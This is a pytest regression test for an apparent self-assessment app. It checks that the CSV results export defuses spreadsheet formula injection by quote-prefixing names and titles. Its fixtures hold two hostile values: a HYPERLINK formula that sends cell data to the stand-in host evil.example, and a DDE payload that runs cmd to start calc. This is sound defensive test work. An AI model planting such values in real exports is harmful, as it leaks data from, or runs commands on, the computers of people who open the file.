"""A round's CSV export, opened in a spreadsheet, runs no formula that a
partnership name or round title carries: such cells start with a single
quote, and the scores stay numbers (penetration test, issue 10, item 10)."""

from __future__ import annotations

import csv
import io

from selfassess.data import partnerships
from selfassess.data.base import db
from selfassess.data.models import Role
from selfassess.rounds import service as rounds_service
from tests import factories
from tests.signing_in import sign_in

NAME = '=HYPERLINK("https://evil.example/?d="&A1,"Fife")'
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_the_csv_export_neutralises_formulas_in_names_and_titles(app, client, restore_partnerships):
    partnerships.rename(partnerships.by_name("Fife"), NAME)
    db.session.commit()
    round_ = factories.round_(NAME, title=TITLE)
    for _ in range(3):
        factories.response(round_, factories.all_answers(2))
    lead = factories.member(factories.account("lead@example.org"), NAME, role=Role.LEAD)
    rounds_service.close(round_, lead)
    sign_in(client, "lead@example.org")
    response = client.get(f"/rounds/{round_.id}/results.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert rows
    assert {r["partnership"] for r in rows} == {"'" + NAME}
    assert {r["round"] for r in rows} == {"'" + TITLE}
    overall = next(r for r in rows if r["level"] == "overall")
    assert overall["score"] == "2.00"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
            assert not value.startswith("-") or float(value) <= 0, row
